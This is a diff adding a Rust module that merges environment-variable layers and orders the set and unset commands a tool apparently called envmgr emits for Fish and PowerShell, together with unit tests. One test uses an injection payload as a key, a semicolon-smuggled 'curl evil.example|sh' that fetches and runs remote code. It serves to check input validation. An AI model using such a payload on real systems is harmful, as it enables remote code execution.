@@ -0,0 +1,231 @@
+//! Order of the commands `envmgr use` emits.
+//!
+//! Unsets come before sets, so a variable moving between layers is never briefly
+//! unset after being set. Within the sets, `order` (default 0) decides, lower first;
+//! ties keep config order with base before the environment, so configs without any
+//! `order` emit exactly what they always did. Unsets go in reverse: the last layer
+//! first, and within each layer the highest `order` first, as recorded when applied.
+
+use std::collections::{BTreeMap, HashMap};
+
+use log::warn;
+
+use crate::{
+    config::{EnvVarsConfig, validate::is_valid_env_var_key},
+    state::AppliedEnvVar,
+};
+
+/// One command emitted by `envmgr use`
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum EnvVarChange {
+    Unset(String),
+    Set(String, String),
+}
+
+/// Merge `layers` (base first) by key and order the result for emission.
+///
+/// A later layer overriding a key also brings its `order`, the position of the
+/// key stays where it was first defined. Variables with keys that can't be put into a
+/// shell command are left out.
+pub fn merge_env_var_layers(layers: &[&[EnvVarsConfig]]) -> Vec<EnvVarsConfig> {
+    let mut merged: Vec<EnvVarsConfig> = vec![];
+    let mut index = HashMap::new();
+    for var in layers.iter().flat_map(|layer| layer.iter()) {
+        if !is_valid_env_var_key(&var.key) {
+            warn!("Skipping env var '{}': not a valid identifier", var.key);
+            continue;
+        }
+        match index.get(&var.key) {
+            Some(&i) => merged[i] = var.clone(),
+            None => {
+                index.insert(var.key.clone(), merged.len());
+                merged.push(var.clone());
+            }
+        }
+    }
+    // Stable, so equal orders keep their config position
+    merged.sort_by_key(|var| var.order);
+    merged
+}
+
+/// Commands taking a shell that has `applied` set to the merged `layers`.
+///
+/// Keys that were applied but are no longer configured, and the keys in `unset` that
+/// aren't configured either, are unset first: by source and `order` from `origins`,
+/// both reversed. Keys without an origin, never applied or applied by an older binary,
+/// come last in reverse key order. Keys that aren't valid identifiers are never unset.
+pub fn plan_env_var_changes(
+    layers: &[&[EnvVarsConfig]],
+    applied: &HashMap<String, String>,
+    origins: &BTreeMap<String, AppliedEnvVar>,
+    unset: &[String],
+) -> Vec<EnvVarChange> {
+    let vars = merge_env_var_layers(layers);
+    let mut removed: Vec<&String> = applied
+        .keys()
+        .chain(unset)
+        .filter(|key| !vars.iter().any(|var| &var.key == *key))
+        .collect();
+    removed.sort();
+    removed.dedup();
+    removed.retain(|key| {
+        let valid = is_valid_env_var_key(key);
+        if !valid {
+            warn!("Not unsetting '{key}': not a valid identifier");
+        }
+        valid
+    });
+    let rank = |key: &String| origins.get(key).map(|origin| (origin.source, origin.order));
+    removed.sort_by(|a, b| rank(b).cmp(&rank(a)).then_with(|| b.cmp(a)));
+
+    removed
+        .into_iter()
+        .map(|key| EnvVarChange::Unset(key.clone()))
+        .chain(
+            vars.into_iter()
+                .map(|var| EnvVarChange::Set(var.key, var.value)),
+        )
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{cli::Shell, state::EnvVarSource};
+
+    fn var(key: &str, value: &str, order: i32) -> EnvVarsConfig {
+        EnvVarsConfig {
+            key: key.to_string(),
+            value: value.to_string(),
+            dynamic: None,
+            order,
+            secret: false,
+            when: None,
+            integration: None,
+        }
+    }
+
+    fn render(changes: &[EnvVarChange], shell: Shell) -> String {
+        changes
+            .iter()
+            .map(|change| match change {
+                EnvVarChange::Unset(key) => shell.unset_env_var_cmd(key),
+                EnvVarChange::Set(key, value) => shell.set_env_var_cmd(key, value),
+            })
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+
+    #[test]
+    fn test_unordered_config_keeps_config_order() {
+        let base = [var("EDITOR", "vim", 0), var("PAGER", "less", 0)];
+        let env = [var("AWS_PROFILE", "work", 0), var("EDITOR", "hx", 0)];
+
+        let changes = plan_env_var_changes(&[&base, &env], &HashMap::new(), &BTreeMap::new(), &[]);
+
+        assert_eq!(
+            render(&changes, Shell::Fish),
+            indoc::indoc! {"
+                set -gx EDITOR 'hx'
+                set -gx PAGER 'less'
+                set -gx AWS_PROFILE 'work'"}
+        );
+    }
+
+    #[test]
+    fn test_ordered_fixture_golden_script() {
+        let base = [
+            var("PATH", "/opt/java/bin:/usr/bin", 10),
+            var("LANG", "en_US.UTF-8", 0),
+        ];
+        let env = [
+            var("JAVA_HOME", "/opt/java", -5),
+            // Overrides the base value and brings its own order along
+            var("LANG", "de_DE.UTF-8", 20),
+            var("KUBECONFIG", "/work/kube", 0),
+        ];
+        let applied = HashMap::from([
+            ("OLD_B".to_string(), "x".to_string()),
+            ("OLD_A".to_string(), "x".to_string()),
+            ("JAVA_HOME".to_string(), "/old/java".to_string()),
+        ]);
+
+        let changes = plan_env_var_changes(&[&base, &env], &applied, &BTreeMap::new(), &[]);
+
+        assert_eq!(
+            render(&changes, Shell::Fish),
+            indoc::indoc! {"
+                set -e -g OLD_B
+                set -e -g OLD_A
+                set -gx JAVA_HOME '/opt/java'
+                set -gx KUBECONFIG '/work/kube'
+                set -gx PATH '/opt/java/bin:/usr/bin'
+                set -gx LANG 'de_DE.UTF-8'"}
+        );
+        assert_eq!(
+            render(&changes, Shell::PowerShell),
+            indoc::indoc! {"
+                Remove-Item Env:OLD_B -ErrorAction SilentlyContinue
+                Remove-Item Env:OLD_A -ErrorAction SilentlyContinue
+                $env:JAVA_HOME = '/opt/java'
+                $env:KUBECONFIG = '/work/kube'
+                $env:PATH = '/opt/java/bin:/usr/bin'
+                $env:LANG = 'de_DE.UTF-8'"}
+        );
+    }
+
+    #[test]
+    fn test_unset_keys_are_removed_even_if_never_applied() {
+        let env = [var("EDITOR", "hx", 0)];
+        let applied = HashMap::from([("AWS_PROFILE".to_string(), "base".to_string())]);
+        let unset = ["AWS_PROFILE".to_string(), "HTTP_PROXY".to_string()];
+
+        let changes = plan_env_var_changes(&[&env], &applied, &BTreeMap::new(), &unset);
+
+        assert_eq!(
+            render(&changes, Shell::Fish),
+            indoc::indoc! {"
+                set -e -g HTTP_PROXY
+                set -e -g AWS_PROFILE
+                set -gx EDITOR 'hx'"}
+        );
+    }
+
+    #[test]
+    fn test_invalid_keys_never_reach_the_script() {
+        let injected = "X;curl evil.example|sh";
+        let env = [var(injected, "1", 0), var("EDITOR", "hx", 0)];
+        let applied = HashMap::from([(injected.to_string(), "1".to_string())]);
+        let unset = [format!("{injected}2")];
+
+        let changes = plan_env_var_changes(&[&env], &applied, &BTreeMap::new(), &unset);
+
+        assert_eq!(render(&changes, Shell::Fish), "set -gx EDITOR 'hx'");
+    }
+
+    #[test]
+    fn test_unsets_follow_recorded_order_not_key_names() {
+        let origin = |source, order| AppliedEnvVar { source, order };
+        let applied: HashMap<String, String> = ["A_FIRST", "Z_LAST", "M_BASE", "B_UNKNOWN"]
+            .into_iter()
+            .map(|key| (key.to_string(), "x".to_string()))
+            .collect();
+        let origins = BTreeMap::from([
+            ("A_FIRST".to_string(), origin(EnvVarSource::Environment, 10)),
+            ("Z_LAST".to_string(), origin(EnvVarSource::Environment, -5)),
+            ("M_BASE".to_string(), origin(EnvVarSource::Base, 100)),
+        ]);
+
+        let changes = plan_env_var_changes(&[], &applied, &origins, &[]);
+
+        // Reverse key order would be Z_LAST, M_BASE, B_UNKNOWN, A_FIRST
+        assert_eq!(
+            render(&changes, Shell::Fish),
+            indoc::indoc! {"
+                set -e -g A_FIRST
+                set -e -g Z_LAST
+                set -e -g M_BASE
+                set -e -g B_UNKNOWN"}
+        );
+    }
+}